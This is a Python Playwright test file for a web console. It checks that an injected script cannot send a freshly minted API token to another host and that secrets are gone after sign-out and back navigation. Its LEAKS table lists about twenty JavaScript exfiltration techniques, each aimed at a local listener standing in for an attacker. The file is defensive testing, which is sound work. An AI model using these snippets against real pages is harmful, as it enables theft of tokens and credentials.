"""What a real browser lets a hostile script do on our pages, and what it still shows after signing out."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Browser, Error, Page

from tests.console.served import Served
from tests.platform import Person, make_app, make_person

PASSWORD = "correct horse"
# Each sends the token to another host, if it can. A page that goes elsewhere by itself no policy can keep.
LEAKS = {
    "fetch": "fetch(E + 'fetch', {mode: 'no-cors'}).catch(() => 0)",
    "beacon": "navigator.sendBeacon(E + 'beacon', 't')",
    "image": "new Image().src = E + 'image'",
    "socket": "new WebSocket(E.replace('http', 'ws') + 'socket')",
    "events": "new EventSource(E + 'events')",
    "script": "put('script', {src: E + 'script'})",
    "style": "put('link', {rel: 'stylesheet', href: E + 'style'})",
    "font": "new FontFace('x', `url(${E}font)`).load().catch(() => 0)",
    "frame": "put('iframe', {src: E + 'frame'})",
    "object": "put('object', {data: E + 'object'})",
    "media": "put('video', {src: E + 'media'})",
    "prefetch": "put('link', {rel: 'prefetch', href: E + 'prefetch'})",
    "preload": "put('link', {rel: 'preload', as: 'image', href: E + 'preload'})",
    "rules": 'put(\'script\', {type: \'speculationrules\', textContent: `{"prefetch": [{"urls": ["${E}rules"]}]}`})',
    "base": "put('base', {href: E})",
    "form": "put('form', {action: E + 'form', method: 'post', target: 'x'}).submit()",
    "frame form": "put('form', {action: E + 'form', method: 'get', target: '_self'}).submit()",
    "own fetch": "fetch('/console/own-fetch').catch(() => 0)",
    "own form": "put('form', {action: '/console/own-form'}).submit()",
    "own worker": "navigator.serviceWorker.register(document.querySelector('script[src]').src).catch(() => 0)",
}


@asynccontextmanager
async def listener() -> AsyncIterator[tuple[str, list[str]]]:
    """Another host, and what was asked of it."""
    heard: list[str] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append((await reader.readline()).decode().strip())
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/", heard


async def signed_in(browser: Browser, place: Served, ann: Person) -> Page:
    context = await browser.new_context()
    await context.add_cookies([place.session_cookie(ann.access_token)])
    return await context.new_page()


@pytest.mark.asyncio(loop_scope="session")
async def test_nothing_leaves_the_page_for_tokens(browser: Browser, place: Served) -> None:
    ann = await make_person(place.api)
    app = await make_app(place.api, ann)
    page = await signed_in(browser, place, ann)
    await page.goto(f"{place.url}/console/{ann.account.account_id}/tokens?app={app.client_id}")
    await page.fill("#t-secret", app.secret)
    asked: list[str] = []
    page.context.on("response", lambda response: asked.append(response.url))
    await page.click("[data-mint]")
    await page.wait_for_selector("[data-made]:not([hidden])")
    kept = "[localStorage.length, sessionStorage.length, history.length, JSON.stringify(history.state)]"
    assert await page.evaluate(kept) == [0, 0, 2, "null"]
    assert await page.evaluate("async () => [(await indexedDB.databases()).length, await caches.keys()]") == [0, []]
    assert asked == []
    async with listener() as (elsewhere, heard):
        put = "(name, more) => document.body.appendChild(Object.assign(document.createElement(name), more))"
        for name, script in LEAKS.items():
            await page.evaluate(f"(E) => {{ const put = {put}; try {{ {script} }} catch {{}} }}", elsewhere)
            assert heard == [], name
        await page.wait_for_timeout(500)
        assert heard == []
    assert asked == []
    token: str = await page.input_value("#t-token")
    held = "document.body.outerHTML + [...document.querySelectorAll('input, textarea')].map((one) => one.value)"
    assert token.count(".") == 2
    before: str = await page.evaluate(held)
    assert token in before
    assert app.secret in before
    # As when the page is left, and perhaps kept for the way back.
    await page.evaluate("dispatchEvent(new PageTransitionEvent('pagehide', {persisted: true}))")
    await page.wait_for_timeout(200)
    left: str = await page.evaluate(held)
    for part in (*token.split("."), app.secret):
        assert part not in left
    await page.context.close()


@pytest.mark.asyncio(loop_scope="session")
async def test_the_back_button_shows_nothing_after_signing_out(browser: Browser, place: Served) -> None:
    ann = await make_person(place.api, password=PASSWORD)
    app = await make_app(place.api, ann)
    page = await signed_in(browser, place, ann)
    home = f"{place.url}/console/{ann.account.account_id}"
    await page.goto(f"{home}/apps/{app.client_id}")
    await page.fill("[name=password]", PASSWORD)
    await page.press("[name=password]", "Enter")
    await page.wait_for_selector(f"text={app.secret}")
    assert app.secret not in page.url
    await page.goto(f"{home}/people")
    await page.evaluate("document.querySelector('form[action=\"/console/sign-out\"]').submit()")
    await page.wait_for_url("**/console/sign-in")
    for _ in range(3):
        try:
            await page.go_back()
        except Error as error:
            # What a form was answered with is not kept.
            assert "ERR_CACHE_MISS" in str(error)  # noqa: PT017 - whether it is raised is the browser's own matter
        await page.wait_for_timeout(300)
        shown = await page.content()
        assert app.secret not in shown
        assert ann.email not in shown
    await page.context.close()
